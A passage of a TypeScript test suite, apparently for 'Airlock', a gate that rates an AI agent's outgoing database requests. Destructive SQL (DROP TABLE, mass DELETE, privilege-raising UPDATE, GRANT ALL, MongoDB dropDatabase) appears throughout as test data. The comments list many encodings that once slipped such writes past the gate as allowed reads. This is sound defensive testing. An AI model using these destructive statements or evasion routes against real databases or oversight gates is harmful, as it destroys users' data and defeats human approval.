  for (const body of [{ stmt: 'DROP TABLE users' }, { stmt: 'DELETE FROM users WHERE name LIKE ?', args: ['%'] }, { stmt: 'DELETE FROM users WHERE name LIKE $1', bulk_args: [['bob'], ['%']] },
    { stmt: 'DELETE FROM users WHERE id = ?', bulk_args: Array.from({ length: 65 }, (_, i) => [i]) }, { stmt: 'DELETE FROM users WHERE id = ?', args: [1], bulk_args: [[2]] }]) {
    t.equal((await post(CRATE, body)).decision.approval?.risk, 'critical', JSON.stringify(body).slice(0, 100));
  }
  t.equal((await post(`https://${SQL_HOST}/api/thing`, { stmt: 'DROP TABLE users' })).decision.approval?.risk, 'critical', '{stmt} on another path, read as a {query} is');
  // Controls: a narrow delete, a bulk insert, and a phrase elsewhere stay medium writes.
  for (const [url, body] of [[CRATE, { stmt: 'DELETE FROM users WHERE id = ?', args: [1] }], [CRATE, { stmt: 'INSERT INTO t (a) VALUES (?)', bulk_args: [[1], [2]] }], [`https://${SQL_HOST}/api/thing`, { stmt: 'red shoes' }]] as Array<[string, unknown]>) {
    t.equal((await post(url, body)).decision.approval?.risk, 'medium', JSON.stringify(body));
  }
});

t.test('sixteenth pass: a MySQL optimizer hint that switches integrity checks off for its statement is the SET it stands for', async (t) => {
  // `DELETE /*+ SET_VAR(foreign_key_checks = OFF) */ FROM parents WHERE id = 7` (MySQL 8's own
  // example) deletes with foreign keys unchecked, as after `SET foreign_key_checks = 0` (critical on
  // an endpoint of unknown dialect); the hint is a comment to every other grammar: a medium write.
  const hinted = fc.record({
    stmt: fc.constantFrom((h: string) => `DELETE ${h} FROM parents WHERE id = 7`, (h: string) => `INSERT ${h} INTO children (parent_id) VALUES (99)`, (h: string) => `UPDATE ${h} children SET parent_id = 99 WHERE id = 1`),
    name: fc.constantFrom('foreign_key_checks', 'FOREIGN_KEY_CHECKS', 'unique_checks', '@@session.foreign_key_checks'),
    value: fc.constantFrom('OFF', '0', 'off', "'OFF'"),
    before: fc.constantFrom('', 'MAX_EXECUTION_TIME(1000) ', 'SET_VAR(sort_buffer_size = 16M) '),
    gap: fc.constantFrom('', ' ', '  '),
  });
  const MCP = `https://${MCP_HOST}/mcp`;
  await fc.assert(
    fc.asyncProperty(hinted, fc.boolean(), async ({ stmt, name, value, before, gap }, mcp) => {
      const sql = stmt(`/*+ ${before}SET_VAR(${gap}${name}${gap}=${gap}${value}) */`);
      const { decision } = mcp
        ? await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'execute_sql', arguments: { sql } } }) })
        : await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${mcp ? 'MCP' : 'POST'} ${sql}: ${decision.action} ${decision.approval?.risk}`);
    }),
    { numRuns: Math.min(runs, 12), ...seed },
  );
  // Controls: other hints leave the write as it was (medium), and a hint is a comment on Supabase and D1.
  for (const [url, sql] of [[GENERIC, 'DELETE /*+ SET_VAR(sort_buffer_size = 16M) */ FROM parents WHERE id = 7'], [GENERIC, 'SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM t'],
    [SUPABASE, 'DELETE /*+ SET_VAR(foreign_key_checks = OFF) */ FROM parents WHERE id = 7'], [D1, 'DELETE /*+ SET_VAR(foreign_key_checks = OFF) */ FROM parents WHERE id = 7']] as Array<[string, string]>) {
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === SUPABASE ? { query: sql } : { sql }) });
    t.equal(decision.approval?.risk, 'medium', `${url.slice(8, 30)} ${sql}`);
  }
});

t.test('sixteenth pass: SQL a GraphQL query or subscription field takes is read, as a mutation\'s is', async (t) => {
  // `GET https://<allowed host>/graphql?query={ executeSql(sql: "DROP TABLE users") { rows } }` was an
  // allowed read: only mutations' SQL-named arguments were read, and the server runs the SQL whatever the operation.
  const q = (s: string): string => `https://${SQL_HOST}/graphql?query=${encodeURIComponent(s)}`;
  for (const [doc, expected] of [
    ['{ executeSql(sql: "DROP TABLE users") { rows } }', 'critical'],
    ['query Q($s: String) { run(input: {rawSql: $s}) { ok } }', 'critical'],
    ['subscription { live(sqlQuery: "DELETE FROM sessions") { n } }', 'critical'],
    ['{ runSql(input: {rawSql: "UPDATE users SET role = 1 WHERE id = 7"}) { ok } }', 'approve'],
  ] as const) {
    const url = q(doc) + (doc.includes('$s') ? `&variables=${encodeURIComponent(JSON.stringify({ s: 'TRUNCATE users' }))}` : '');
    const { decision } = await decide({ method: 'GET', url, headers: [], body: '' });
    t.equal(expected === 'approve' ? decision.action : decision.approval?.risk, expected, doc);
  }
  // Controls: a search's `query` stays a phrase, a read stays a read.
  for (const doc of ['{ search(query: "drop table lamp") { id } }', '{ report(sql: "SELECT id FROM users WHERE id = 1") { rows } }']) {
    t.equal((await decide({ method: 'GET', url: q(doc), headers: [], body: '' })).decision.action, 'allow', doc);
  }
});

t.test('seventeenth pass: statements SQLite runs before its error are not replaced by another server\'s reading when PostgreSQL refuses the text', async (t) => {
  // `SELECT $1$; DROP TABLE users; $1$` to an endpoint of unknown dialect: PostgreSQL refuses it
  // whole, SQLite (libSQL, sqld, any executescript) runs `SELECT $1$` and the DROP before it fails
  // at the last `$1$`, and ClickHouse reads one heredoc string. With both grammars failing, the
  // statements SQLite had run were dropped and ClickHouse's (or BigQuery's, MySQL's) reading stood
  // alone: a medium read, an allowed GET and an allowed read-only MCP call.
  const shapes: Array<[string, string]> = [['SELECT $1$', '$1$'], ['SELECT $v9$', '$v9$'], ["SELECT '''x'", "SELECT '''"], ['SELECT 1', '/*! SELECT 2 */ (']];
  const writes = ['DROP TABLE users', 'DELETE FROM users', "UPDATE users SET role = 'admin'"];
  const oracle = await new Promise<string>((resolve, reject) => execFile('python3', ['-c', [
    'import sqlite3, sys, json',
    'out = []',
    'for sql in json.loads(sys.argv[1]):',
    '  c = sqlite3.connect(":memory:")',
    '  c.execute("CREATE TABLE users (id INTEGER PRIMARY KEY, role TEXT)")',
    '  c.execute("INSERT INTO users (role) VALUES (\'user\')")',
    '  try: c.executescript(sql)',
    '  except sqlite3.Error: pass',
    '  t = c.execute("SELECT count(*) FROM sqlite_master WHERE name = \'users\'").fetchone()[0]',
    '  out.append(t == 0 or c.execute("SELECT count(*) FROM users WHERE role = \'user\'").fetchone()[0] == 0)',
    'print(json.dumps(out))',
  ].join('\n'), JSON.stringify(shapes.flatMap(([open, close]) => writes.map((w) => `${open}; ${w}; ${close}`)))], (err, out) => (err ? reject(err) : resolve(out.trim()))));
  t.ok((JSON.parse(oracle) as boolean[]).every(Boolean), 'SQLite runs each write before its error');
  const MCP = `https://${MCP_HOST}/mcp`;
  const place = fc.constantFrom('post', 'get', 'mcp');
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...shapes), fc.constantFrom(...writes), place, fc.constantFrom(' ', '\n', '  '), async ([open, close], write, where, gap) => {
      const sql = `${open};${gap}${write};${gap}${close}`;
      const { decision } = where === 'post'
        ? await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) })
        : where === 'get'
          ? await decide({ method: 'GET', url: `https://${SQL_HOST}/v1/run?sql=${encodeURIComponent(sql)}`, headers: [], body: '' })
          : await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { sql } } }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${where} ${JSON.stringify(sql)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 12), ...seed },
  );
  // Controls: the same pieces without a statement between them stay reads.
  for (const sql of ['SELECT $$x$$', "SELECT '''x'''", 'SELECT 1 /*! */']) {
    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/v1/run?sql=${encodeURIComponent(sql)}`, headers: [], body: '' })).decision.action, 'allow', sql);
  }
});

t.test('seventeenth pass: SQL under `command`, `cmd` or `script`, and below an object an SQL name holds, is read where it adds risk', async (t) => {
  // `search_issues {command: "DROP TABLE users"}` (a tool the configuration names read-only),
  // `{sql: {text: "DELETE FROM users"}}` and `GET …/v1/exec?script=DELETE FROM users` were
  // allowed reads: those names were never read as SQL (a shell tool's command is no SQL), and
  // an object under `sql` was looked into for SQL names only.
  const MCP = `https://${MCP_HOST}/mcp`;
  const call = (name: string, args: unknown): Promise<Decided> => decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } }) });
  const hiding = fc.record({
    name: fc.constantFrom('command', 'cmd', 'script', 'Command', 'CMD', 'scripts', 'commands'),
    sql: fc.constantFrom('DROP TABLE users', 'DELETE FROM users', "UPDATE users SET role = 'admin' WHERE id = 7", 'INSERT INTO admins VALUES (7)', 'DELETE LOW_PRIORITY FROM users', '/* x */ TRUNCATE users'),
    shape: fc.constantFrom('plain', 'list', 'nested'),
  });
  await fc.assert(
    fc.asyncProperty(hiding, async ({ name, sql, shape }) => {
      const value = shape === 'list' ? ['ls', sql] : shape === 'nested' ? { text: sql } : sql;
      const args = shape === 'nested' ? { sql: value } : { [name]: value };
      const { decision } = await call('search_issues', args);
      if (decision.action === 'allow') throw new Error(`${JSON.stringify(args)}: allowed`);
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  for (const [url, expected] of [[`https://${SQL_HOST}/v1/exec?script=${encodeURIComponent('DELETE FROM users')}`, 'critical'], [`https://${SQL_HOST}/v1/exec?cmd=${encodeURIComponent('DROP TABLE users')}`, 'critical']] as const) {
    t.equal((await decide({ method: 'GET', url, headers: [], body: '' })).decision.approval?.risk, expected, url);
  }
  // Controls: reads and shell commands under those names stay as they were; a shell tool's call keeps its risk.
  for (const args of [{ command: 'SELECT id FROM t' }, { script: 'echo hi' }, { command: 'delete the old files' }, { sql: { query: 'SELECT 1', params: ['x'] } }, { command: 'set -e; rm -rf /tmp/x' }]) {
    t.equal((await call('search_issues', args)).decision.action, 'allow', JSON.stringify(args));
  }
  t.equal((await call('run_command', { command: 'ls -la' })).decision.approval?.risk, 'high', 'a shell tool stays a high tool call');
  // A JSON body's (and a WebSocket message's, judged as one) `command` is SQL when a grammar reads statements in it.
  for (const [body, risk] of [[{ command: 'DROP TABLE users' }, 'critical'], [{ script: 'DELETE FROM users' }, 'critical'], [{ command: 'ls -la' }, 'medium']] as const) {
    t.equal((await decide({ url: `https://${SQL_HOST}/api/thing`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) })).decision.approval?.risk, risk, JSON.stringify(body));
  }
  // A GraphQL field's `command` or `script` argument, in a query by GET as in a mutation.
  const gql = (doc: string): string => `https://${SQL_HOST}/graphql?query=${encodeURIComponent(doc)}`;
  t.equal((await decide({ method: 'GET', url: gql('{ run(command: "DROP TABLE users") { ok } }'), headers: [], body: '' })).decision.approval?.risk, 'critical', 'GraphQL run(command: DROP …)');
  t.equal((await decide({ method: 'GET', url: gql('{ run(command: "ls -la") { ok } }'), headers: [], body: '' })).decision.action, 'allow', 'GraphQL run(command: ls)');
  for (const q of ['script=SELECT%20id%20FROM%20t', 'cmd=ls', 'command=status']) {
    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/v1/exec?${q}`, headers: [], body: '' })).decision.action, 'allow', q);
  }
});

t.test('seventeenth pass: SQL in a JSON object carried by a URL parameter, or in the path after an SQL path name, is read', async (t) => {
  // `GET https://<allowed host>/v1/run?q={"sql": "DELETE FROM users"}` (a body carried in the URL)
  // and `GET /api/query/DROP%20TABLE%20users` were allowed reads.
  const places = [
    (s: string) => `/v1/run?q=${encodeURIComponent(JSON.stringify({ sql: s }))}`,
    (s: string) => `/v1/run?params=${encodeURIComponent(JSON.stringify([{ sql: s, args: [] }]))}`,
    (s: string) => `/v1/query?body=${encodeURIComponent(JSON.stringify({ query: s }))}`,
    (s: string) => `/v1/run?req=${encodeURIComponent(JSON.stringify({ input: { rawSql: s } }))}`,
    (s: string) => `/api/query/${encodeURIComponent(s)}`,
    (s: string) => `/sql/${encodeURIComponent(s)}?format=json`,
  ];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...places), fc.constantFrom('DROP TABLE users', 'DELETE FROM users', "UPDATE users SET role = 'admin' WHERE id = 7", 'INSERT INTO admins VALUES (7)'), fc.constantFrom('GET', 'HEAD'), async (place, sql, method) => {
      const { decision } = await decide({ method, url: `https://${SQL_HOST}${place(sql)}`, headers: [], body: '' });
      if (decision.action === 'allow') throw new Error(`${method} ${place(sql)}: allowed`);
    }),
    { numRuns: Math.min(runs, 12), ...seed },
  );
  // Controls: reads, search phrases and ordinary JSON filters and paths stay allowed.
  for (const place of ['/v1/run?q=%7B%22sql%22%3A%22SELECT%20id%20FROM%20t%22%7D', '/search?filter=%7B%22query%22%3A%22drop%20table%20tennis%22%7D', '/api/query/users', '/search/drop%20table%20tennis', '/v1/run?q=%7B%22tags%22%3A%5B%22a%22%5D%7D']) {
    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}${place}`, headers: [], body: '' })).decision.action, 'allow', place);
  }
});

t.test('seventeenth pass: a PRAGMA the agent sends acts on nothing of Airlock\'s (one `hard_heap_limit` left every later SQL unread)', async (t) => {
  // SQLite acts on many pragmas while compiling them, and `hard_heap_limit` on the whole engine:
  // describing one `{sql: "PRAGMA hard_heap_limit = 1"}` (to D1, or a GET's `?sql=`, itself held)
  // made every later SQL SQLite reads, every agent's, unparsed and held critical until a restart.
  for (const pragma of ['PRAGMA hard_heap_limit = 1', 'pragma HARD_HEAP_LIMIT=4096', "PRAGMA temp_store_directory = '/nonexistent'"]) {
    const held = pragma.startsWith('pragma')
      ? await decide({ method: 'GET', url: `https://${SQL_HOST}/v1/run?sql=${encodeURIComponent(pragma)}`, headers: [], body: '' })
      : await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: pragma }) });
    t.equal(held.decision.approval?.risk, 'critical', `${pragma}: held`);
    const read = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'SELECT id, email FROM users WHERE id = ?', params: [7] }) });
    t.equal(read.decision.action, 'allow', `after ${pragma}: another agent's read is still read`);
    const write = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM sessions WHERE id = ?', params: [7] }) });
    t.equal(write.decision.approval?.risk, 'medium', `after ${pragma}: a narrow delete is still judged by its rows`);
  }
});

t.test('seventeenth pass: `<> ALL (…)` and `<> ANY (…)` name the rows spared, as NOT IN does', async (t) => {
  // `DELETE FROM users WHERE id <> ALL (ARRAY[1, 2])` is `NOT IN (1, 2)` (critical), and `<> ANY`
  // holds for a row that differs from one of the values: both were medium writes on Supabase and Neon.
  const shapes = fc.record({
    op: fc.constantFrom('<>', '!='),
    quant: fc.constantFrom('ALL', 'ANY', 'SOME', 'all'),
    list: fc.constantFrom('ARRAY[1, 2]', "'{1,2}'", "'{}'::int[]", 'ARRAY[7]', '$1'),
    stmt: fc.constantFrom((w: string) => `DELETE FROM users WHERE ${w}`, (w: string) => `UPDATE users SET role = 'admin' WHERE ${w}`),
    url: fc.constantFrom(SUPABASE, NEON),
  });
  await fc.assert(
    fc.asyncProperty(shapes, async ({ op, quant, list, stmt, url }) => {
      const sql = stmt(`id ${op} ${quant} (${list})`);
      const body = url === NEON ? { query: sql, params: list === '$1' ? [[1, 2]] : [] } : { query: sql };
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 12), ...seed },
  );
  // Control: `= ANY (ARRAY[1, 2])` names the rows touched, a narrow write.
  t.equal((await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'DELETE FROM users WHERE id = ANY (ARRAY[1, 2])' }) })).decision.approval?.risk, 'medium');
});

t.test('eighteenth pass: a form\'s `query`, `statement`, `command` or `code`, and a JSON or MCP `code`, carry SQL as a JSON body\'s fields do', async (t) => {
  // `curl -d query='DROP TABLE users' https://<allowed host>/api/run` (also `command=`, `cmd=`,
  // `script=`, `[statement]=`, multipart) was a plain medium POST while its JSON twin was
  // destructive (a grant for one form POST there covered it); `{code: "DROP TABLE users"}` (a
  // notebook cell, a sandbox's run) and a read-only MCP tool's `code` were not read at all.
  const FORM = 'application/x-www-form-urlencoded';
  const field = fc.record({
    name: fc.constantFrom('query', 'statement', 'stmt', 'command', 'cmd', 'script', 'code', 'Command', '[query]', ' code'),
    sql: fc.constantFrom('DROP TABLE users', 'DELETE FROM users', "UPDATE users SET role = 'admin' WHERE 1 = 1", 'TRUNCATE users'),
    place: fc.constantFrom('form', 'form after another field', 'multipart', 'json code', 'mcp code'),
  });
  await fc.assert(
    fc.asyncProperty(field, async ({ name, sql, place }) => {
      const url = `https://${SQL_HOST}/api/run`;
      const r = place === 'form' ? { url, headers: [['Content-Type', FORM]] as Array<[string, string]>, body: `${encodeURIComponent(name)}=${encodeURIComponent(sql)}` }
        : place === 'form after another field' ? { url, headers: [['Content-Type', FORM]] as Array<[string, string]>, body: `lang=en&${encodeURIComponent(name)}=${encodeURIComponent(sql)}` }
          : place === 'multipart' ? { url, headers: [['Content-Type', 'multipart/form-data; boundary=XyZ']] as Array<[string, string]>, body: `--XyZ\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${sql}\r\n--XyZ--\r\n` }
            : place === 'json code' ? { url, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ language: 'auto', code: sql }) }
              : { url: `https://${MCP_HOST}/mcp`, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { code: sql } } }) };
      const { decision } = await decide(r);
      if (decision.approval?.risk !== 'critical') throw new Error(`${place} ${JSON.stringify(name)}=${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 25), ...seed },
  );
  // Controls: a shell command, an OAuth code exchange, a search phrase and Python stay plain POSTs; a read-only tool's Python or SELECT stays a read.
  for (const [path, ct, body] of [['/api/run', FORM, 'command=ls%20-la'], ['/oauth/token', FORM, 'grant_type=authorization_code&code=4%2F0AX4XfWh&redirect_uri=https%3A%2F%2Fx'], ['/api/run', FORM, 'query=red%20shoes'], ['/api/run', 'application/json', JSON.stringify({ code: 'import os\nprint(os.getcwd())' })]]) {
    t.equal((await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', ct!]], body })).decision.approval?.risk, 'medium', `${path} ${body}`);
  }
  for (const code of ['print(1)', 'SELECT id FROM users WHERE id = 7']) {
    t.equal((await decide({ url: `https://${MCP_HOST}/mcp`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { code } } }) })).decision.action, 'allow', `search_issues {code: ${code}}`);
  }
});

t.test('eighteenth pass: a binary or enveloped body of any gRPC, Connect or protobuf flavour to an SQL path is unread SQL', async (t) => {
  // `POST …/psdb.v1alpha1.Database/Execute` (PlanetScale) as gRPC-web (`application/grpc-web+proto`,
  // or `grpc-web-text`: base64 of the frames) carrying `DROP TABLE users` was a plain medium write:
  // only `application/proto`, `grpc`, `connect+proto` and a few others were known not to be read.
  const frame = (sql: string): Buffer => { const msg = Buffer.concat([Buffer.from([0x0a, sql.length]), Buffer.from(sql)]); const h = Buffer.alloc(5); h.writeUInt32BE(msg.length, 1); return Buffer.concat([h, msg]); };
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom('application/grpc-web+proto', 'application/grpc-web', 'application/grpc-web-text', 'application/grpc-web-text+proto', 'application/grpc+json', 'application/connect+json', 'application/vnd.google.protobuf', 'application/x-google-protobuf', 'application/grpc', 'application/proto'),
      fc.constantFrom('/psdb.v1alpha1.Database/Execute', '/v1/sql', '/api/query'),
      fc.constantFrom('DROP TABLE users', 'DELETE FROM users'),
      async (ct, path, sql) => {
        const body = ct.includes('text') ? frame(sql).toString('base64') : ct.endsWith('json') ? Buffer.concat([Buffer.from([0, 0, 0, 0, 40]), Buffer.from(JSON.stringify({ sql }))]) : frame(sql);
        const { decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', ct]], body });
        if (decision.approval?.risk !== 'critical') throw new Error(`${ct} to ${path}: ${decision.action} ${decision.approval?.risk ?? ''}`);
      },
    ),
    { numRuns: Math.min(runs, 20), ...seed },
  );
  // Controls: the same bodies to a path that says nothing of SQL, and an image upload, stay plain writes.
  for (const [path, ct] of [['/acme.v1.Orders/List', 'application/grpc-web+proto'], ['/upload/raw', 'application/octet-stream']]) {
    t.equal((await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', ct!]], body: frame('x') })).decision.approval?.risk, 'medium', `${ct} to ${path}`);
  }
});

t.test('eighteenth pass: Prisma\'s JSON protocol is read: raw SQL, and deleteMany/updateMany without a where', async (t) => {
  // What Prisma Client sends to Accelerate, Prisma Postgres or a self-hosted data proxy:
  // `{modelName: "User", action: "deleteMany", query: {arguments: {}}}` deletes every row and was a
  // plain POST (medium, grantable from a createOne there; unreadable GraphQL, high, on `/graphql`);
  // `executeRaw` with `arguments.query: "DROP TABLE users"` likewise.
  const op = fc.oneof(
    fc.record({ action: fc.constantFrom('deleteMany', 'updateMany'), where: fc.constantFrom(undefined, {}, null) }).map(({ action, where }) => ({ modelName: 'User', action, query: { arguments: { ...(where !== undefined ? { where } : {}), ...(action === 'updateMany' ? { data: { role: 'admin' } } : {}) }, selection: { count: true } } })),
    fc.record({ action: fc.constantFrom('executeRaw', 'queryRaw'), query: fc.constantFrom('DROP TABLE users', 'DELETE FROM "User"', 'TRUNCATE "User"') }).map(({ action, query }) => ({ action, query: { arguments: { query, parameters: '[]' }, selection: {} } })),
  );
  await fc.assert(
    fc.asyncProperty(op, fc.constantFrom('/6.2.0/0123abcd/graphql', '/api/prisma', '/6.2.0/0123abcd/itx/tx1/graphql'), fc.boolean(), async (o, path, batched) => {
      const body = batched ? { batch: [{ modelName: 'User', action: 'findMany', query: { arguments: {}, selection: { $scalars: true } } }, o], transaction: { isolationLevel: null } } : o;
      const { decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(body)} to ${path}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 20), ...seed },
  );
  // Controls: a create, a read and a delete that names its rows stay as they were (a plain write off `/graphql`).
  for (const o of [{ modelName: 'User', action: 'createOne', query: { arguments: { data: { name: 'a' } }, selection: { $scalars: true } } }, { modelName: 'User', action: 'deleteMany', query: { arguments: { where: { id: 7 } }, selection: { count: true } } }, { modelName: 'User', action: 'findMany', query: { arguments: {}, selection: { $scalars: true } } }]) {
    t.equal((await decide({ url: `https://${SQL_HOST}/api/prisma`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(o) })).decision.approval?.risk, 'medium', o.action);
  }
});

t.test('nineteenth pass: a Prisma many-action\'s where is read as the WHERE it runs, a raw statement\'s values are bound, raw MongoDB commands are read', async (t) => {
  // `deleteMany {where: {id: {not: -1}}}` deletes every row and was a narrow (medium) write: only an
  // absent or empty `where` was read. Likewise `OR: [{}, …]`, `contains: ""`, `notIn`, `not: null`,
  // a field compared with itself by a field reference; and `executeRaw` with `parameters: '["%"]'`
  // (Prisma Client sends the values as a JSON text) bound nothing to `LIKE $1`.
  const ref = { $type: 'FieldRef', value: { _ref: 'id', _container: 'User' } };
  const everyRow = [{ id: { not: -1 } }, { OR: [{}, { id: 1 }] }, { email: { contains: '' } }, { email: { startsWith: '', mode: 'insensitive' } }, { id: { notIn: [1, 2] } }, { id: { not: null } }, { id: { equals: ref } }, { NOT: { id: -1 } }, { AND: [{ id: { not: 3 } }] }, { id: { gte: ref } }];
  const op = fc.oneof(
    fc.record({ action: fc.constantFrom('deleteMany', 'updateMany'), where: fc.constantFrom(...everyRow) }).map(({ action, where }) => ({ modelName: 'User', action, query: { arguments: { where, ...(action === 'updateMany' ? { data: { role: 'admin' } } : {}) }, selection: { count: true } } })),
    fc.record({ action: fc.constantFrom('executeRaw', 'queryRaw'), value: fc.constantFrom('%', '%%', { prisma__type: 'string', prisma__value: '%' }) }).map(({ action, value }) => ({ action, query: { arguments: { query: 'DELETE FROM users WHERE email LIKE $1', parameters: JSON.stringify([value]) }, selection: {} } })),
    // MongoDB through Prisma: any command, and an aggregation that replaces or rewrites a collection.
    fc.constantFrom({ dropDatabase: 1 }, { drop: 'User' }, { delete: 'User', deletes: [{ q: {}, limit: 0 }] }, { aggregate: 'Post', pipeline: [{ $out: 'User' }], cursor: {} }).map((command) => ({ action: 'runCommandRaw', query: { arguments: { command }, selection: {} } })),
    fc.constantFrom([{ $match: {} }, { $out: 'User' }], [{ $merge: { into: 'User', whenMatched: 'replace' } }]).map((pipeline) => ({ modelName: 'Post', action: 'aggregateRaw', query: { arguments: { pipeline }, selection: {} } })),
  );
  await fc.assert(
    fc.asyncProperty(op, fc.constantFrom('/6.2.0/0123abcd/graphql', '/api/prisma'), fc.boolean(), async (o, path, batched) => {
      const body = batched ? { batch: [{ modelName: 'User', action: 'findMany', query: { arguments: {}, selection: { $scalars: true } } }, o] } : o;
      const { decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(body)} to ${path}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 24), ...seed },
  );
  // Controls: wheres that name their rows (a value, a range, a relation's rows, a prefix) and a raw value stay narrow writes.
  const narrow = [{ id: 7 }, { id: { in: [1, 2] } }, { email: { startsWith: 'tmp_' } }, { createdAt: { lt: { $type: 'DateTime', value: '2020-01-01T00:00:00.000Z' } } }, { posts: { some: { published: false } }, email: 'a@b.c' }, { OR: [{ id: 1 }, { id: 2 }] }];
  for (const where of narrow) {
    const o = { modelName: 'User', action: 'deleteMany', query: { arguments: { where }, selection: { count: true } } };
    t.equal((await decide({ url: `https://${SQL_HOST}/api/prisma`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(o) })).decision.approval?.risk, 'medium', JSON.stringify(where));
  }
  for (const o of [{ action: 'runCommandRaw', query: { arguments: { command: { find: 'User', filter: { id: 1 } } } } }, { modelName: 'Post', action: 'aggregateRaw', query: { arguments: { pipeline: [{ $match: { published: true } }] } } }]) {
    t.equal((await decide({ url: `https://${SQL_HOST}/api/prisma`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(o) })).decision.approval?.risk, 'medium', `a MongoDB read: ${o.action}`);
  }
  const rawNarrow = { action: 'executeRaw', query: { arguments: { query: 'DELETE FROM users WHERE email LIKE $1', parameters: '["a@b.c"]' } } };
  t.equal((await decide({ url: `https://${SQL_HOST}/api/prisma`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(rawNarrow) })).decision.approval?.risk, 'medium', 'a raw statement with a narrow value');
});

t.test('nineteenth pass: a URL parameter under any name holding a statement that writes is SQL', async (t) => {
  // `GET https://<allowed host>/v1/run?expr=DROP TABLE users` was an allowed read: only names that
  // say SQL (`sql`, `script`, `command`, `*sql*`; `query`/`q` on an SQL path) were read.
  const name = fc.constantFrom('expr', 'expression', 'filter', 'where', 'run', 'x', 'input', 'body', 'p', 'Expr');
  const write = fc.constantFrom('DROP TABLE users', 'DELETE FROM users', 'TRUNCATE users', 'UPDATE users SET role = \'admin\'', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'VACUUM INTO \'/tmp/x.db\'', 'GRANT ALL ON users TO public', 'with x as (select 1) delete from users');
  await fc.assert(
    fc.asyncProperty(name, write, fc.constantFrom('/v1/run', '/api/items', '/'), fc.constantFrom('GET', 'HEAD'), async (n, sql, path, method) => {
      const url = `https://${SQL_HOST}${path}?page=1&${n}=${encodeURIComponent(sql)}`;
      const { decision } = await decide({ method, url });
      if (decision.action === 'allow') throw new Error(`${method} ${url}: allowed`);
    }),
    { numRuns: Math.min(runs, 24), ...seed },
  );
  // Controls: phrases (also SQL's words, and two words that are a maintenance statement) and reads stay allowed reads.
  for (const v of ['update my profile and delete the old one', 'drop table', 'vacuum cleaner', 'analyze results', 'call me', 'select all', 'SELECT * FROM users WHERE id = 1', 'how to delete from a table in postgres', 'begin work', 'set up the project']) {
    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/api/items?x=${encodeURIComponent(v)}` })).decision.action, 'allow', v);
  }
  // A search or a title may say anything: `?q=drop table tennis`, `?title=truncate logs`.
  for (const [n, v] of [['q', 'drop table tennis'], ['title', 'truncate logs'], ['search', 'delete from cart']]) {
    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/api/items?${n}=${encodeURIComponent(v!)}` })).decision.action, 'allow', `${n}=${v}`);
  }
});

t.test('nineteenth pass: values bound under the names drivers take them by, and by name in an object, are bound', async (t) => {
  // An SQL proxy handing its body to a driver: mysql2's `{sql, values}`, Sequelize's `bind` and
  // `replacements`, node-oracledb's `binds`, libSQL's `args: {p: …}` (named), `params: {p: …}`:
  // `DELETE FROM users WHERE email LIKE :p` with `%` was a narrow (medium) write, the value unbound.
  const shapes: Record<string, (v: string) => Record<string, unknown>> = {
    values: (v) => ({ sql: 'DELETE FROM users WHERE email LIKE ?', values: [v] }),
